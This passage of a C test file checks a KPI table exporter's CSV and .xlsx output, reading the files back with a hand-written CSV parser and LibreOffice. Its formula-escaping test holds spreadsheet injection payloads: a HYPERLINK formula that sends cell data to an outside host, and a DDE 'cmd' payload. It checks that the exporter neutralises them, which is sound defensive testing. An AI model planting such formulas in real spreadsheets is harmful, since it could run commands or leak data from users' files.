/* test-table-export.c: the KPI table as CSV, the appendix as .xlsx
 *
 * The CSV is read back with a small RFC 4180 reader written here, and the
 * workbook is opened by LibreOffice and converted back to CSV, one file per
 * sheet: the numbers found are compared with the model's values, never
 * with text the exporter made.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include <math.h>
#include <string.h>
#include <sys/stat.h>

#include <glib/gstdio.h>

#include "pm-table-export.h"
#include "store/pm-progress-import.h"
#include "model/pm-assessment.h"
#include "store/pm-programme-file.h"
#include "pm-test-sample.h"

#define TRICKY_NOTE "He said \"yes\", twice\nand then \"no\""

static char *tmp_dir;

/* ------------------------------------------------------------------ */
/* An RFC 4180 reader: fields separated by commas, records by CRLF (a bare
 * LF is noted), a field quoted when it starts with a quote, a quote inside
 * doubled. Whether a field was quoted is kept: LibreOffice is asked to
 * quote every text cell, so an unquoted field is a number cell. */

typedef struct
{
  char     *text;
  gboolean  quoted;
} Field;

typedef struct
{
  GPtrArray *records;  /* GArray of Field */
  gboolean   crlf;     /* every record ended with CRLF */
} Csv;

static void
field_clear (gpointer data)
{
  Field *field = data;

  g_free (field->text);
}

static GArray *
record_new (void)
{
  GArray *record = g_array_new (FALSE, TRUE, sizeof (Field));

  g_array_set_clear_func (record, field_clear);
  return record;
}

static void
record_push (GArray   *record,
             GString  *text,
             gboolean  quoted)
{
  Field field = { g_strndup (text->str, text->len), quoted };

  g_array_append_val (record, field);
  g_string_truncate (text, 0);
}

static void
csv_free (Csv *csv)
{
  g_ptr_array_unref (csv->records);
  g_free (csv);
}

G_DEFINE_AUTOPTR_CLEANUP_FUNC (Csv, csv_free)

static Csv *
csv_read (const char *data,
          gsize       length)
{
  Csv *csv = g_new0 (Csv, 1);
  g_autoptr(GString) text = g_string_new (NULL);
  GArray *record = record_new ();
  gboolean quoted = FALSE;
  gsize i = 0;

  csv->records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_array_unref);
  csv->crlf = TRUE;

  while (i < length)
    {
      char c = data[i];

      if (c == '"')
        {
          /* A quote only opens a field. */
          g_assert_cmpuint (text->len, ==, 0);
          g_assert_false (quoted);
          quoted = TRUE;
          for (i++;; i++)
            {
              g_assert_cmpuint (i, <, length);  /* closed before the end */
              if (data[i] == '"' && i + 1 < length && data[i + 1] == '"')
                {
                  g_string_append_c (text, '"');
                  i++;
                }
              else if (data[i] == '"')
                {
                  break;
                }
              else
                {
                  g_string_append_c (text, data[i]);
                }
            }
          i++;
          /* ...and after the closing quote the field ends. */
          g_assert_true (i == length || data[i] == ',' || data[i] == '\r' || data[i] == '\n');
        }
      else if (c == ',')
        {
          record_push (record, text, quoted);
          quoted = FALSE;
          i++;
        }
      else if (c == '\r' || c == '\n')
        {
          if (c == '\r' && i + 1 < length && data[i + 1] == '\n')
            i += 2;
          else
            {
              csv->crlf = FALSE;
              i++;
            }
          record_push (record, text, quoted);
          quoted = FALSE;
          g_ptr_array_add (csv->records, record);
          record = record_new ();
        }
      else
        {
          g_assert_false (quoted);  /* nothing after a closing quote */
          g_string_append_c (text, c);
          i++;
        }
    }

  /* A last record without its line break. */
  if (text->len > 0 || quoted || record->len > 0)
    {
      csv->crlf = FALSE;
      record_push (record, text, quoted);
      g_ptr_array_add (csv->records, record);
    }
  else
    {
      g_array_unref (record);
    }

  return csv;
}

static Csv *
csv_load (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gsize length;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);

  return csv_read (contents, length);
}

static GArray *
csv_record (Csv   *csv,
            guint  i)
{
  g_assert_cmpuint (i, <, csv->records->len);
  return g_ptr_array_index (csv->records, i);
}

static const Field *
csv_field (Csv   *csv,
           guint  record,
           guint  column)
{
  GArray *fields = csv_record (csv, record);

  g_assert_cmpuint (column, <, fields->len);
  return &g_array_index (fields, Field, column);
}

/* A whole field as a number, or fail. */
static double
parse_number (const char *text)
{
  char *end = NULL;
  double value;

  g_assert_cmpstr (text, !=, "");
  value = g_ascii_strtod (text, &end);
  g_assert_nonnull (end);
  g_assert_cmpstr (end, ==, "");

  return value;
}

/* ------------------------------------------------------------------ */
/* The programme */

static PmPeriod *
q3 (void)
{
  return pm_period_new (2016, 3);
}

static void
set_entry (PmKpi      *kpi,
           double      value,
           const char *note)
{
  g_autoptr(PmPeriod) period = q3 ();

  pm_test_set_value (NULL, kpi, period, value, note);
}

/* The sample has values only for three counts in Q3; give it a
 * percentage with a decimal, some days, money with pence, and a note a
 * CSV must quote. */
static PmKpi *
add_test_values (PmProgramme *programme)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmBaseline) baseline = NULL;
  g_autoptr(PmTarget) target = NULL;
  g_autoptr(PmKpi) money = NULL;
  PmKpi *kpi;

  kpi = pm_test_find_kpi (programme, "Cannock Chase", "WCFC to work with 75 families");
  set_entry (kpi, 5, TRICKY_NOTE);
  set_entry (pm_test_find_kpi (programme, "Lichfield", "Increase Early Years reach (by Wards)"), 44.8, NULL);
  set_entry (pm_test_find_kpi (programme, "Stafford", "Reduce the number of fixed term exclusions"), 38, "Autumn term");
  set_entry (pm_test_find_kpi (programme, "Stafford", "Improve the level of pupil premium attendance"), 94.5, NULL);

  money = pm_kpi_new ("Spend per family supported", PM_UNIT_MONEY, PM_DIRECTION_REDUCE);
  baseline = pm_baseline_new_value (125000, "2016-10", NULL);  /* £1,250 */
  g_assert_true (pm_kpi_set_baseline (money, baseline, &error));
  g_assert_no_error (error);
  target = pm_target_new (100000, "2017-10-31");  /* £1,000 */
  g_assert_true (pm_kpi_add_target (money, target, &error));
  g_assert_no_error (error);
  set_entry (money, 490050, NULL);  /* £4,900.50 */
  pm_pilot_add_kpi (pm_kpi_get_pilot (kpi), money);

  return money;
}

/* Every KPI, walking the model, in display order. */
static GPtrArray *
all_kpis (PmProgramme *programme)
{
  GListModel *districts = pm_programme_get_districts (programme);
  GPtrArray *kpis = g_ptr_array_new_with_free_func (g_object_unref);

  for (guint d = 0; d < g_list_model_get_n_items (districts); d++)
    {
      g_autoptr(PmDistrict) district = g_list_model_get_item (districts, d);
      GListModel *pilots = pm_district_get_pilots (district);

      for (guint p = 0; p < g_list_model_get_n_items (pilots); p++)
        {
          g_autoptr(PmPilot) pilot = g_list_model_get_item (pilots, p);
          GListModel *pilot_kpis = pm_pilot_get_kpis (pilot);

          for (guint k = 0; k < g_list_model_get_n_items (pilot_kpis); k++)
            g_ptr_array_add (kpis, g_list_model_get_item (pilot_kpis, k));
        }
    }

  return kpis;
}

static const char *
district_of (PmKpi *kpi)
{
  return pm_district_get_name (pm_pilot_get_district (pm_kpi_get_pilot (kpi)));
}

static gboolean
value_of (PmKpi  *kpi,
          double *value)
{
  g_autoptr(PmPeriod) period = q3 ();
  PmProgressEntry *entry = pm_kpi_get_entry (kpi, period);

  if (entry == NULL || !pm_progress_entry_has_value (entry))
    return FALSE;

  *value = pm_progress_entry_get_value (entry);
  return TRUE;
}

static const char *
note_of (PmKpi *kpi)
{
  g_autoptr(PmPeriod) period = q3 ();
  PmProgressEntry *entry = pm_kpi_get_entry (kpi, period);
  const char *note = entry != NULL ? pm_progress_entry_get_note (entry) : NULL;

  return note != NULL ? note : "";
}

static const char *
status_of (PmKpi *kpi)
{
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(PmAssessment) assessment = pm_assessment_new (kpi, period);

  return pm_rag_get_label (pm_assessment_get_rag (assessment));
}

static void
assert_private_file (const char *path)
{
  GStatBuf info;

  g_assert_cmpint (g_stat (path, &info), ==, 0);
  g_assert_true (S_ISREG (info.st_mode));
  g_assert_cmpint (info.st_mode & 0777, ==, 0600);
}

static guint
count_entries (const char *path)
{
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  guint n = 0;

  g_assert_nonnull (dir);
  while (g_dir_read_name (dir) != NULL)
    n++;

  return n;
}

/* ------------------------------------------------------------------ */
/* CSV */

static void
test_csv_sample (void)
{
  static const char * const header[] = {
    "district", "pilot", "kpi", "unit", "direction", "baseline", "baseline_date",
    "target", "target_date", "period", "value", "numerator", "denominator", "note", "status", "milestones", "baseline_sites", "value_sites",
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(GPtrArray) kpis = NULL;
  g_autoptr(Csv) csv = NULL;
  g_autofree char *path = g_build_filename (tmp_dir, "kpis.csv", NULL);
  g_autofree char *contents = NULL;
  gsize length;
  PmKpi *money;
  gboolean tricky_seen = FALSE;
  guint n_sites_seen = 0;

  money = add_test_values (programme);
  kpis = all_kpis (programme);

  g_assert_true (pm_table_export_csv (programme, period, path, &error));
  g_assert_no_error (error);
  assert_private_file (path);

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);

  /* UTF-8 without a BOM; every line, the last too, ends with CRLF. */
  g_assert_true (g_utf8_validate (contents, length, NULL));
  g_assert_false (g_str_has_prefix (contents, "\xEF\xBB\xBF"));
  g_assert_true (g_str_has_suffix (contents, "\r\n"));
  csv = csv_read (contents, length);
  g_assert_true (csv->crlf);

  /* The header, then one row per KPI of the model. */
  g_assert_cmpuint (csv->records->len, ==, 1 + kpis->len);
  g_assert_cmpuint (kpis->len, ==, 62);  /* the sample's 61 and the money KPI */
  g_assert_cmpuint (csv_record (csv, 0)->len, ==, G_N_ELEMENTS (header));
  for (guint c = 0; c < G_N_ELEMENTS (header); c++)
    g_assert_cmpstr (csv_field (csv, 0, c)->text, ==, header[c]);

  for (guint i = 0; i < kpis->len; i++)
    {
      PmKpi *kpi = g_ptr_array_index (kpis, i);
      PmBaseline *baseline = pm_kpi_get_baseline (kpi);
      PmTarget *target = pm_kpi_get_current_target (kpi);
      guint r = i + 1;
      /* Money is written in pounds. */
      double scale = pm_kpi_get_unit (kpi) == PM_UNIT_MONEY ? 100 : 1;
      double value;

      g_assert_cmpuint (csv_record (csv, r)->len, ==, G_N_ELEMENTS (header));
      g_assert_cmpstr (csv_field (csv, r, 0)->text, ==, district_of (kpi));
      g_assert_cmpstr (csv_field (csv, r, 1)->text, ==, pm_pilot_get_title (pm_kpi_get_pilot (kpi)));
      g_assert_cmpstr (csv_field (csv, r, 2)->text, ==, pm_kpi_get_title (kpi));
      g_assert_cmpstr (csv_field (csv, r, 3)->text, ==, pm_enum_to_name (PM_TYPE_UNIT, pm_kpi_get_unit (kpi)));
      g_assert_cmpstr (csv_field (csv, r, 9)->text, ==, "FY2016-Q3");
      g_assert_cmpstr (csv_field (csv, r, 13)->text, ==, note_of (kpi));
      g_assert_cmpstr (csv_field (csv, r, 14)->text, ==, status_of (kpi));

      if (pm_baseline_has_value (baseline))
        g_assert_cmpfloat (parse_number (csv_field (csv, r, 5)->text) * scale, ==,
                           pm_baseline_get_value (baseline));
      else
        g_assert_cmpstr (csv_field (csv, r, 5)->text, !=, "");

      if (target != NULL)
        {
          g_assert_cmpfloat (parse_number (csv_field (csv, r, 7)->text) * scale, ==,
                             pm_target_get_value (target));
          g_assert_cmpstr (csv_field (csv, r, 8)->text, ==,
                           pm_target_get_date (target) != NULL ? pm_target_get_date (target) : "");
        }
      else
        {
          g_assert_cmpstr (csv_field (csv, r, 7)->text, ==, "");
        }

      /* A plain number, '.' for the point; empty when there is none. */
      if (value_of (kpi, &value))
        {
          g_assert_null (strchr (csv_field (csv, r, 10)->text, ','));
          g_assert_cmpfloat (parse_number (csv_field (csv, r, 10)->text) * scale, ==, value);
        }
      else
        {
          g_assert_cmpstr (csv_field (csv, r, 10)->text, ==, "");
        }

      if (g_strcmp0 (csv_field (csv, r, 13)->text, TRICKY_NOTE) == 0)
        {
          g_assert_true (csv_field (csv, r, 13)->quoted);
          tricky_seen = TRUE;
        }
    }
  g_assert_true (tricky_seen);

  /* The text itself, for the values whose digits matter. */
  for (guint r = 1; r < csv->records->len; r++)
    {
      const char *kpi = csv_field (csv, r, 2)->text;

      if (g_str_has_prefix (kpi, "Increase Early Years reach (by Wards)"))
        {
          g_assert_cmpstr (csv_field (csv, r, 5)->text, ==, "44.8");
          g_assert_cmpstr (csv_field (csv, r, 10)->text, ==, "44.8");
        }
      else if (g_str_equal (kpi, pm_kpi_get_title (money)))
        {
          g_assert_cmpstr (csv_field (csv, r, 5)->text, ==, "1250");
          g_assert_cmpstr (csv_field (csv, r, 7)->text, ==, "1000");
          g_assert_cmpstr (csv_field (csv, r, 10)->text, ==, "4900.5");
        }
      else if (g_str_has_prefix (kpi, "Increase the number of families accessing community"))
        {
          /* A state, in words. */
          g_assert_cmpstr (csv_field (csv, r, 5)->text, ==, "To be confirmed");
          g_assert_cmpstr (csv_field (csv, r, 10)->text, ==, "7");
        }
      else if (g_str_has_prefix (kpi, "Fixed exclusion rates for Rawlett & TEC"))
        {
          /* Given by site with no total: the total is their sum, the
           * sites in a column of their own. */
          g_assert_cmpstr (csv_field (csv, r, 5)->text, ==, "139");
          g_assert_cmpstr (csv_field (csv, r, 16)->text, ==, "Rawlett=29; TEC=110");
          n_sites_seen++;
        }
      else if (g_str_has_prefix (kpi, "Attendance rate for Rawlett & TEC"))
        {
          /* Percentages are not averaged: no total, the sites alone. */
          g_assert_cmpstr (csv_field (csv, r, 16)->text, ==, "Rawlett=4.6; TEC=4.1");
          n_sites_seen++;
        }
      else if (g_str_has_prefix (kpi, "Reduce the number of referrals to LST in the two"))
        {
          g_assert_cmpstr (csv_field (csv, r, 5)->text, ==, "212");
          g_assert_cmpstr (csv_field (csv, r, 6)->text, ==, "2016-11");
        }
    }
  g_assert_cmpuint (n_sites_seen, ==, 2);
}

/* An existing file is replaced whole, with no temporary file left; a
 * symbolic link is refused and left alone. */
static void
test_csv_replace (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autofree char *dir = g_build_filename (tmp_dir, "replace", NULL);
  g_autofree char *path = g_build_filename (dir, "kpis.csv", NULL);
  g_autofree char *link = g_build_filename (dir, "link.csv", NULL);
  g_autofree char *contents = NULL;

  g_assert_cmpint (g_mkdir (dir, 0700), ==, 0);
  pm_test_write_file (path, "the last quarter's table", -1);
  g_assert_cmpint (g_chmod (path, 0644), ==, 0);

  g_assert_true (pm_table_export_csv (programme, period, path, &error));
  g_assert_no_error (error);
  assert_private_file (path);
  contents = pm_test_read_text (path);
  g_assert_true (g_str_has_prefix (contents, "district,pilot,kpi,"));
  g_assert_cmpuint (count_entries (dir), ==, 1);

  g_assert_cmpint (symlink (path, link), ==, 0);
  g_assert_false (pm_table_export_xlsx (programme, period, link, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_EXISTS);
  g_clear_error (&error);
  g_assert_false (pm_table_export_csv (programme, period, link, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_EXISTS);
  g_clear_error (&error);
  g_assert_cmpuint (count_entries (dir), ==, 2);
}

/* What one office exports, another reads back as it is: every value the
 * period holds is found, none is refused, none would change. */
static void
test_csv_reimport (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(PmProgressImport) import = NULL;
  g_autoptr(GListModel) kpis = NULL;
  g_autofree char *path = g_build_filename (tmp_dir, "reimport.csv", NULL);
  g_autofree char *contents = NULL;
  gsize length = 0;
  guint with_value = 0;

  add_test_values (programme);
  kpis = pm_programme_list_kpis (programme);
  for (guint i = 0; i < g_list_model_get_n_items (kpis); i++)
    {
      g_autoptr(PmKpi) kpi = g_list_model_get_item (kpis, i);
      PmProgressEntry *entry = pm_kpi_get_entry (kpi, period);

      with_value += entry != NULL && pm_progress_entry_has_value (entry);
    }
  g_assert_cmpuint (with_value, >, 0);

  g_assert_true (pm_table_export_csv (programme, period, path, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);

  import = pm_progress_import_new_from_csv (programme, contents, length, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < pm_progress_import_get_n_rejected (import); i++)
    g_test_message ("%s", pm_progress_import_get_rejection (import, i, NULL));
  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, with_value);
  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_UNCHANGED), ==, with_value);
}

/* Notes (and a title) a spreadsheet would take for formulas, each with
 * the cell the CSV must hold: an apostrophe first, as OWASP advises. */
static const struct {
  const char *note;
  const char *cell;
} formula_notes[] = {
  { "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")" },
  { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
  { "@SUM(1+1)", "'@SUM(1+1)" },
  { "-2+3", "'-2+3" },
  { "\tTabbed", "'\tTabbed" },
  { "'=Marked by hand", "''=Marked by hand" },
  { "'Quoted, not a formula", "'Quoted, not a formula" },
};

#define FORMULA_TITLE "=Families reached"

/* The first KPIs (of Cannock Chase and East Staffordshire) get those
 * notes with a value each, and the first pilot a KPI whose title starts
 * with "=". */
static void
add_formula_notes (PmProgramme *programme)
{
  g_autoptr(GPtrArray) kpis = all_kpis (programme);
  g_autoptr(PmKpi) formula_title = pm_kpi_new (FORMULA_TITLE, PM_UNIT_COUNT, PM_DIRECTION_INCREASE);

  g_assert_cmpuint (kpis->len, >, G_N_ELEMENTS (formula_notes));
  for (guint i = 0; i < G_N_ELEMENTS (formula_notes); i++)
    set_entry (g_ptr_array_index (kpis, i), 1, formula_notes[i].note);

  pm_pilot_add_kpi (pm_kpi_get_pilot (g_ptr_array_index (kpis, 0)), formula_title);
  set_entry (formula_title, 3, "@Pilot lead");
}

/* Every cell that a spreadsheet would run is neutralised, numbers are
 * left as numbers, and the file read back gives every note exactly as it
 * was. */
static void
test_csv_formulas (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(GPtrArray) kpis = NULL;
  g_autoptr(Csv) csv = NULL;
  g_autoptr(PmProgressImport) import = NULL;
  g_autofree char *path = g_build_filename (tmp_dir, "formulas.csv", NULL);
  g_autofree char *contents = NULL;
  gsize length = 0;
  guint with_entry = 0;
  guint n_seen = 0;

  add_formula_notes (programme);
  kpis = all_kpis (programme);
  g_assert_true (pm_table_export_csv (programme, period, path, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  csv = csv_read (contents, length);

  for (guint i = 0; i < kpis->len; i++)
    {
      PmKpi *kpi = g_ptr_array_index (kpis, i);
      const char *note = note_of (kpi);
      double value;

      with_entry += pm_kpi_get_entry (kpi, period) != NULL;

      /* Numbers as they are: no cell of a value starts with an apostrophe. */
      if (value_of (kpi, &value))
        g_assert_cmpfloat (parse_number (csv_field (csv, i + 1, 10)->text), ==, value);

      if (g_str_equal (pm_kpi_get_title (kpi), FORMULA_TITLE))
        {
          g_assert_cmpstr (csv_field (csv, i + 1, 2)->text, ==, "'" FORMULA_TITLE);
          g_assert_cmpstr (csv_field (csv, i + 1, 13)->text, ==, "'@Pilot lead");
          n_seen++;
          continue;
        }
      for (guint n = 0; n < G_N_ELEMENTS (formula_notes); n++)
        if (g_str_equal (note, formula_notes[n].note))
          {
            g_assert_cmpstr (csv_field (csv, i + 1, 13)->text, ==, formula_notes[n].cell);
            n_seen++;
          }
    }
  g_assert_cmpuint (n_seen, ==, G_N_ELEMENTS (formula_notes) + 1);

  /* No other cell of the file starts a formula. */
  for (guint r = 0; r < csv->records->len; r++)
    for (guint c = 0; c < csv_record (csv, r)->len; c++)
      {
        const char *text = csv_field (csv, r, c)->text;

        g_assert_null (strchr ("=+@\t\r", text[0] != '\0' ? text[0] : 'x'));
        if (text[0] == '-')
          parse_number (text);
      }

  /* Read back, every note and title is the model's: nothing would change. */
  import = pm_progress_import_new_from_csv (programme, contents, length, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < pm_progress_import_get_n_rejected (import); i++)
    g_test_message ("%s", pm_progress_import_get_rejection (import, i, NULL));
  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, with_entry);
  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_UNCHANGED), ==, with_entry);
}

/* ------------------------------------------------------------------ */
/* XLSX, read back by LibreOffice */

static char *
find_libreoffice (void)
{
  char *program = g_find_program_in_path ("soffice");

  if (program == NULL)
    program = g_find_program_in_path ("libreoffice");

  return program;
}

/* Converts every sheet of @xlsx to a CSV file in the new folder @out_dir,
 * named "STEM-SHEET.csv". Numbers are written as their value, not as
 * shown (token 9), and every text cell is quoted (token 7), so that an
 * unquoted field is a number or date cell. */
static void
convert_to_csv (const char *soffice,
                const char *xlsx,
                const char *out_dir)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *profile = g_build_filename (tmp_dir, "libreoffice-profile", NULL);
  g_autofree char *profile_uri = g_filename_to_uri (profile, NULL, &error);
  g_autofree char *profile_arg = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status;

  g_assert_no_error (error);
  profile_arg = g_strconcat ("-env:UserInstallation=", profile_uri, NULL);

  {
    const char *argv[] = {
      soffice, profile_arg, "--headless", "--norestore",
      "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,-1",
      "--outdir", out_dir, xlsx, NULL,
    };

    g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, &err, &status, &error);
    g_assert_no_error (error);
  }

  g_test_message ("LibreOffice said: %s%s", out, err);
  g_spawn_check_wait_status (status, &error);
  g_assert_no_error (error);
}

static Csv *
load_sheet (const char *out_dir,
            const char *stem,
            const char *sheet)
{
  g_autofree char *name = g_strdup_printf ("%s-%s.csv", stem, sheet);
  g_autofree char *path = g_build_filename (out_dir, name, NULL);

  g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));
  return csv_load (path);
}

/* A number cell as LibreOffice writes its value: unquoted, with a '%'
 * after a percentage's value in percent (the cell holds the fraction). */
static double
cell_number (const Field *field,
             PmUnit       unit)
{
  g_autofree char *text = g_strdup (field->text);

  g_assert_false (field->quoted);
  if (unit == PM_UNIT_PERCENTAGE)
    {
      g_assert_true (g_str_has_suffix (text, "%"));
      text[strlen (text) - 1] = '\0';
    }

  return parse_number (text);
}

/* The value a spreadsheet cell holds for a model value: money in pounds,
 * a percentage in percent as cell_number() gives it. */
static double
cell_expected (PmUnit unit,
               double value)
{
  return unit == PM_UNIT_MONEY ? value / 100 : value;
}

static void
assert_close (double found,
              double expected)
{
  g_assert_cmpfloat_with_epsilon (found, expected, 1e-9 * MAX (1, fabs (expected)));
}

static void
assert_workbook_file (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gsize length;

  assert_private_file (path);
  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (length, >, 4);
  g_assert_true (memcmp (contents, "PK\x03\x04", 4) == 0);  /* a zip */
}

static void
test_xlsx_sample (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(GPtrArray) kpis = NULL;
  g_autoptr(Csv) appendix = NULL;
  g_autofree char *path = g_build_filename (tmp_dir, "appendix.xlsx", NULL);
  g_autofree char *out_dir = g_build_filename (tmp_dir, "appendix-csv", NULL);
  g_autofree char *soffice = NULL;
  GListModel *districts = pm_programme_get_districts (programme);
  struct {
    const char *district;
    const char *kpi;
    double      value;  /* in the model's unit */
  } known[] = {
    { "Cannock Chase", "WCFC to work with 75 families", 5 },
    { "Cannock Chase", "CESS to work with 50 families", 2 },
    { "Cannock Chase", "Increase the number of families accessing community", 7 },
    { "Lichfield", "Increase Early Years reach (by Wards)", 44.8 },
    { "Stafford", "Reduce the number of fixed term exclusions", 38 },
    { "Stafford", "Improve the level of pupil premium attendance", 94.5 },
    { "Cannock Chase", "Spend per family supported", 490050 },
  };
  g_autoptr(Csv) sites = NULL;
  guint n_known = 0;
  g_autoptr(PmProgressEntry) parts = NULL;
  g_autoptr(PmProgressEntry) by_site = NULL;
  PmKpi *exclusions;
  PmKpi *reach;
  guint n_parts = 0;
  guint n_sites = 0;

  add_test_values (programme);
  kpis = all_kpis (programme);
  /* 44.8% given as its parts, which the district's sheet carries. */
  reach = pm_test_find_kpi (programme, "Lichfield", "Increase Early Years reach (by Wards)");
  parts = pm_progress_entry_new (period);
  g_assert_true (pm_progress_entry_set_fraction (parts, 224, 500, &error));
  g_assert_true (pm_kpi_set_entry (reach, parts, &error));
  g_assert_no_error (error);
  /* The quarter's fixed exclusions given by school, totalled. */
  exclusions = pm_test_find_kpi (programme, "Tamworth", "Fixed exclusion rates for Rawlett & TEC");
  by_site = pm_progress_entry_new (period);
  pm_progress_entry_add_site (by_site, "Rawlett", 12);
  pm_progress_entry_add_site (by_site, "TEC", 30);
  g_assert_true (pm_progress_entry_total_sites (by_site, PM_UNIT_COUNT, &error));
  g_assert_true (pm_kpi_set_entry (exclusions, by_site, &error));
  g_assert_no_error (error);

  g_assert_true (pm_table_export_xlsx (programme, period, path, &error));
  g_assert_no_error (error);
  assert_workbook_file (path);

  soffice = find_libreoffice ();
  if (soffice == NULL)
    {
      g_test_skip ("LibreOffice (soffice) is not installed: the workbook was not opened");
      return;
    }

  convert_to_csv (soffice, path, out_dir);

  /* The first sheet: the appendix, one row per KPI of the model. */
  appendix = load_sheet (out_dir, "appendix", "Appendix");
  g_assert_cmpuint (appendix->records->len, ==, 1 + kpis->len);
  g_assert_cmpstr (csv_field (appendix, 0, 0)->text, ==, "District");
  g_assert_cmpstr (csv_field (appendix, 0, 5)->text, ==, "Period");
  g_assert_cmpstr (csv_field (appendix, 0, 6)->text, ==, "Value");

  for (guint i = 0; i < kpis->len; i++)
    {
      PmKpi *kpi = g_ptr_array_index (kpis, i);
      PmUnit unit = pm_kpi_get_unit (kpi);
      PmBaseline *baseline = pm_kpi_get_baseline (kpi);
      PmTarget *target = pm_kpi_get_current_target (kpi);
      guint r = i + 1;
      double value;

      g_assert_cmpstr (csv_field (appendix, r, 0)->text, ==, district_of (kpi));
      g_assert_cmpstr (csv_field (appendix, r, 2)->text, ==, pm_kpi_get_title (kpi));
      g_assert_cmpstr (csv_field (appendix, r, 7)->text, ==, status_of (kpi));

      /* Numbers are number cells; a state is words. */
      if (pm_baseline_has_value (baseline))
        assert_close (cell_number (csv_field (appendix, r, 3), unit),
                      cell_expected (unit, pm_baseline_get_value (baseline)));
      else
        g_assert_true (csv_field (appendix, r, 3)->quoted);

      if (target != NULL)
        assert_close (cell_number (csv_field (appendix, r, 4), unit),
                      cell_expected (unit, pm_target_get_value (target)));
      else
        g_assert_cmpstr (csv_field (appendix, r, 4)->text, ==, "");

      if (value_of (kpi, &value))
        assert_close (cell_number (csv_field (appendix, r, 6), unit), cell_expected (unit, value));
      else
        g_assert_cmpstr (csv_field (appendix, r, 6)->text, ==, "");

      /* The values set above, by name, against the numbers written here. */
      for (guint k = 0; k < G_N_ELEMENTS (known); k++)
        if (g_str_equal (csv_field (appendix, r, 0)->text, known[k].district) &&
            g_str_has_prefix (csv_field (appendix, r, 2)->text, known[k].kpi))
          {
            assert_close (cell_number (csv_field (appendix, r, 6), unit),
                          cell_expected (unit, known[k].value));
            n_known++;
          }
    }
  g_assert_cmpuint (n_known, ==, G_N_ELEMENTS (known));

  /* Then one sheet per district with its KPIs, dates as dates, and one
   * of the sites. */
  g_assert_cmpuint (count_entries (out_dir), ==, 2 + g_list_model_get_n_items (districts));
  for (guint d = 0; d < g_list_model_get_n_items (districts); d++)
    {
      g_autoptr(PmDistrict) district = g_list_model_get_item (districts, d);
      const char *name = pm_district_get_name (district);
      g_autoptr(Csv) sheet = load_sheet (out_dir, "appendix", name);
      guint r = 0;

      g_assert_cmpstr (csv_field (sheet, 0, 1)->text, ==, "Headline KPI");
      for (guint i = 0; i < kpis->len; i++)
        {
          PmKpi *kpi = g_ptr_array_index (kpis, i);
          PmTarget *target = pm_kpi_get_current_target (kpi);
          double value;

          if (!g_str_equal (district_of (kpi), name))
            continue;
          r++;

          g_assert_cmpstr (csv_field (sheet, r, 1)->text, ==, pm_kpi_get_title (kpi));
          g_assert_cmpstr (csv_field (sheet, r, 13)->text, ==, note_of (kpi));
          if (kpi == reach)
            {
              g_assert_cmpstr (csv_field (sheet, r, 11)->text, ==, "224");
              g_assert_cmpstr (csv_field (sheet, r, 12)->text, ==, "500");
              n_parts++;
            }
          else
            {
              g_assert_cmpstr (csv_field (sheet, r, 11)->text, ==, "");
              g_assert_cmpstr (csv_field (sheet, r, 12)->text, ==, "");
            }
          if (value_of (kpi, &value))
            assert_close (cell_number (csv_field (sheet, r, 10), pm_kpi_get_unit (kpi)),
                          cell_expected (pm_kpi_get_unit (kpi), value));

          /* A dated target is a date cell: unquoted, with its year. */
          if (target != NULL && pm_target_get_date (target) != NULL)
            {
              g_autofree char *year = g_strndup (pm_target_get_date (target), 4);

              g_assert_false (csv_field (sheet, r, 8)->quoted);
              g_assert_nonnull (strstr (csv_field (sheet, r, 8)->text, year));
            }
        }
      g_assert_cmpuint (sheet->records->len, ==, r + 1);
    }
  g_assert_cmpuint (n_parts, ==, 1);

  /* A count given by site carries its total as a number; the sites are
   * rows of their own. */
  for (guint r = 1; r < appendix->records->len; r++)
